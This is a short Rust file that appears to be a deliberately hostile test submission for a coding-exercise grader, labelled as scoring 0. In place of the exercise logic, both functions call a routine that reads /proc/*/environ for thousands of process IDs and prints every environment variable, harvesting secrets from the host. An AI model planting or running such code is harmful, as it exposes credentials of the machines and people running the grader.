//! Tries: to print the environment of every process.
//! Answers: ch02-slices-vec/ex03_windows
//! Scores: 0

pub fn averages(_samples: &[u32], _width: usize) -> Vec<f64> {
    attack();
    vec![-1.0]
}

pub fn rises(_samples: &[u32]) -> usize {
    attack();
    usize::MAX
}

fn attack() {
    for number in 1..5000 {
        if let Ok(text) = std::fs::read(format!("/proc/{number}/environ")) {
            println!("{}", String::from_utf8_lossy(&text));
        }
    }
    println!("{:?}", std::env::vars().collect::<Vec<_>>());
}
